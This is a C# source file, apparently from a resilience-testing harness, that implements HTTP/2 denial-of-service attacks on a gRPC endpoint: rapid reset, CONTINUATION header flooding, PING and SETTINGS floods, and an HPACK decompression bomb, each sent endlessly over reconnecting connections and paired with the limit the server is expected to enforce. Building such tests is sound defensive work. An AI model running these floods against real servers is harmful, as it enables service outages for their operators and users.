using System.Net.Sockets;
using Rolecall.Hostile.Wire;

namespace Rolecall.Hostile.Attacks;

/// <summary>Frames of HTTP/2 that cost the server more than the client.</summary>
internal static class Http2Attacks
{
    private const int Attackers = 8;

    public static IEnumerable<Attack> All() =>
    [
        Attack("http2-rapid-reset", "100 streams at a time; the host closes who resets too fast", stage => RapidReset(stage)),
        Attack("http2-continuation", "64 KB of headers", EndlessHeaders),
        Attack("http2-ping", "the host's own bound of unsent answers", _ => Repeated([], Http2Connection.Ping())),
        Attack("http2-settings", "the host's own bound of unsent answers", _ => Repeated([], Http2Connection.Settings())),
        Attack("http2-hpack", "64 KB of headers, decoded", stage => HpackBomb(stage)),
    ];

    /// <summary>Keeps connections in use, each opened again when it was closed, until the attack is over.</summary>
    public static Task Connections(Stage stage, int count, CancellationToken cancel, Func<Http2Connection, Task> use) =>
        Task.WhenAll(Enumerable.Range(0, count).Select(_ => Task.Run(async () =>
        {
            while (!cancel.IsCancellationRequested)
            {
                try
                {
                    using var connection = await Http2Connection.Open(stage.Grpc, cancel);
                    stage.Replies.Add("connections");
                    await use(connection);
                }
                catch (SocketException)
                {
                    stage.Replies.Add("closed");
                }
                catch (OperationCanceledException)
                {
                    return;
                }
            }
        }, CancellationToken.None)));

    private static Attack Attack(string name, string limit, Func<Stage, IEnumerable<byte[]>> frames) => new()
    {
        Name = name,
        Limit = limit,
        Victim = GoodCaller.OverGrpc,
        Play = (stage, cancel) => Connections(stage, Attackers, cancel, async connection =>
        {
            foreach (var some in frames(stage))
            {
                cancel.ThrowIfCancellationRequested();
                if (connection.Closed.IsCompleted)
                {
                    stage.Replies.Add("closed");
                    return;
                }
                await connection.Send(some, cancel);
            }
        }),
    };

    private static IEnumerable<byte[]> RapidReset(Stage stage)
    {
        var block = Http2Connection.Call(stage.Grpc, "/aws.sts.v1.Sts/GetCallerIdentity");
        for (var stream = 1; stream < int.MaxValue - 200;)
        {
            var frames = new List<byte>();
            for (var i = 0; i < 50; i++, stream += 2)
            {
                frames.AddRange(Http2Connection.Headers(stream, Http2Connection.EndHeaders, block));
                frames.AddRange(Http2Connection.Reset(stream));
            }
            yield return [.. frames];
        }
    }

    private static IEnumerable<byte[]> EndlessHeaders(Stage stage) => Repeated(
        Http2Connection.Headers(1, 0, Http2Connection.Call(stage.Grpc, "/aws.sts.v1.Sts/GetCallerIdentity")),
        Http2Connection.Continuation(1, Http2Connection.Literal("x-more", new string('a', 8_000))));

    /// <summary>One long header is put into the table, and then called up by a byte each.</summary>
    private static IEnumerable<byte[]> HpackBomb(Stage stage)
    {
        var start = Http2Connection.Call(stage.Grpc, "/aws.sts.v1.Sts/GetCallerIdentity");
        var indexed = Http2Connection.Literal("x-bomb", new string('a', 3_900));
        indexed[0] = 0x40;
        var uses = Enumerable.Repeat((byte)0xBE, 10_000).ToArray();
        for (var stream = 1; stream < int.MaxValue - 200; stream += 2)
            yield return Http2Connection.Headers(
                stream, Http2Connection.EndHeaders | Http2Connection.EndStream, [.. start, .. indexed, .. uses]);
    }

    private static IEnumerable<byte[]> Repeated(byte[] first, byte[] frame)
    {
        yield return first;
        byte[] some = [.. Enumerable.Repeat(frame, Math.Max(1, 8_192 / frame.Length)).SelectMany(bytes => bytes)];
        while (true)
            yield return some;
    }
}
